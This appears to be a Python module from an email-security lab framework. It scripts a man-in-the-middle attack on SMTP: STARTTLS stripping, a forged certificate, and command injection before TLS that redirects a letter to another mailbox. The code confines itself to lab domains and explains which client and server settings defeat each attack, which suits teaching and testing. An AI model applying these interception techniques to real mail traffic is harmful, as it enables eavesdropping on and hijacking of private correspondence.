"""Strip: a man in the middle takes TLS away from those who only wish for it, and fools those who don't look.

Three men: one removes STARTTLS from the answer to EHLO, one shows a certificate of his own, one adds
commands before TLS begins. The first is ended by a client that insists on TLS, the second by one that
also looks at the certificate. The third is ended by the server alone: it must forget what came before TLS.
"""

from collections.abc import Iterator, Sequence
from enum import StrEnum
from itertools import product

from labkit.attacker.letters import SOMEBODY, Draft, address
from labkit.attacker.means.injector import Injector, commands
from labkit.attacker.means.middle import Impostor, Man, Stripper
from labkit.attacker.means.post import Login, post
from labkit.attacker.report import Attempt, Finding, Report, Verdict
from labkit.attacker.scene import Scene
from labkit.attacker.sniff import opened
from labkit.errors import UsageError
from labkit.network.addresses import Host, lab_domain
from labkit.network.fabric import Network
from labkit.smtp.client import Tls
from labkit.smtp.tls import Authority
from labkit.wire.reading.lines import lines

GOAL = "read, or lead astray, the mail of somebody who wants TLS"
NAME = "man in the middle"
SENDER = "staff@corp.example"
STRAY = "sales@corp.example"  # whose mailbox the man in the middle can read
SUBJECT = "The contract"
TEXT = "Hello,\n\nhere is the contract. It is for your eyes only.\n\nThe office"
THROWN_AWAY = "nothing came of the commands before TLS"
OBEYED = "the commands before TLS were obeyed inside it"
NO_TLS = "the client didn't ask for TLS, so there was nothing to add commands to"


class How(StrEnum):
    """What the man in the middle does."""

    STRIP = "strip"
    CERTIFICATE = "certificate"
    INJECT = "inject"

    @property
    def what(self) -> str:
        """The same in a few words."""
        return WORDS[self]


WORDS = {
    How.STRIP: "removes STARTTLS",
    How.CERTIFICATE: "shows a certificate of his own",
    How.INJECT: "adds commands before TLS begins",
}


async def run(
    network: Network,
    source: Host,
    target: Host,
    scene: Scene,
    *,
    how: str = How.STRIP,
    client: Host | None = None,
    onward: Sequence[Host] = (),
    tls: str = Tls.MAY,
    login: Login | None = None,
    sender: str = SENDER,
    to: str = SOMEBODY,
    stray: str = STRAY,
    port: int = 25,
) -> Report:
    """Stand between ``client`` and ``target`` while the client's mail program sends a letter through it.

    The program treats TLS as ``tls`` says: "none", "may", "encrypt" or "verify". With ``onward``, the man
    stands behind the target instead: between it and each of those servers, and how it treats TLS is its
    own affair. ``stray`` is where an injected command leads the letter. Raises UsageError for what can't
    be chosen, OutsideTheLab for addresses that could be real.
    """
    way, level = _way(how), _level(tls)
    for text in (sender, to, stray):
        lab_domain(address(text).domain)
    host, mark = client or source, next(scene.nonces)
    logs_in = login is not None and not onward
    hop = _hop(way, scene, mark, stray, (target if onward else host).domain, logs_in=logs_in)
    paths = list(product([target], onward)) or [(host, target)]
    try:
        for one, other in paths:
            network.on_path(one, other, hop)
        draft = Draft(address(sender), address(to), sender, SUBJECT, TEXT)
        letter, *_ = await post(network, host, target, scene, [draft], port=port, login=login, tls=level)
        await scene.settle()
    finally:
        network.leave(hop)
    what = f"between {paths[0][0].name} and {' and '.join(other.name for _, other in paths)}: {way.what}"
    attempts = [_strayed(hop, scene, mark, stray)] if isinstance(hop, Injector) else []
    letter = letter.looked_up(lambda nonce: _arrived(scene, to, nonce))
    found = [*_read(network, hop), _fate(letter, host, hop.sessions)]
    return await scene.report(network, source, what, attempts, found, goal=GOAL)


def _way(how: str) -> How:
    try:
        return How(how)
    except ValueError:
        raise UsageError(f"{how!r} is not one of {', '.join(How)}.") from None


def _level(tls: str) -> Tls:
    try:
        return Tls(tls)
    except ValueError:
        raise UsageError(f"{tls!r} is not one of {', '.join(Tls)}.") from None


def _hop(way: How, scene: Scene, mark: str, stray: str, hello: str, *, logs_in: bool) -> Man | Injector:
    if way is How.INJECT:
        headers = f"Message-ID: <{mark}@{hello}>\nSubject: What the client said inside TLS\n"
        return Injector(NAME, commands(hello, stray, headers, logs_in=logs_in))
    middle = Stripper if way is How.STRIP else Impostor
    return Man(NAME, middle, scene.clock, Authority())


def _read(network: Network, hop: Man | Injector) -> Iterator[Finding]:
    """What the man in the middle has read of the sessions that he took."""
    if isinstance(hop, Injector):
        return
    if hop.problems:
        raise RuntimeError("; ".join(hop.problems))
    for number in hop.sessions:
        if number in network.recorder:
            read = lines(network.recorder.transcript(number), reveal=True)
            yield from opened(read, number, "on the path")


def _strayed(hop: Injector, scene: Scene, mark: str, stray: str) -> Attempt:
    """The letter that was begun before TLS: whether it lies where he wants it."""
    if not hop.sessions:
        return Attempt(mark, Verdict.NOT_SENT, trouble=NO_TLS)
    if _arrived(scene, stray, mark):
        return Attempt(mark, Verdict.DELIVERED, session=hop.sessions[0], trouble=OBEYED)
    return Attempt(mark, Verdict.REFUSED, session=hop.sessions[0], trouble=THROWN_AWAY)


def _arrived(scene: Scene, mailbox: str, mark: str) -> bool:
    """Whether a letter with this mark among its headers is in this mailbox, and not just in some other."""
    wanted = f"\r\nMessage-ID: <{mark}@".encode()
    return any(wanted in letter.partition(b"\r\n\r\n")[0] for letter in scene.contents(mailbox))


def _fate(letter: Attempt, sender: Host, sessions: Sequence[int]) -> Finding:
    """What became of the client's own letter, as far as the client knows."""
    said = str(letter.reply) if letter.reply else letter.trouble
    session = letter.session or next(iter(sessions), 0)
    return Finding(f"the letter from {sender.name}: {letter.verdict.word}", said, session, harm=False)
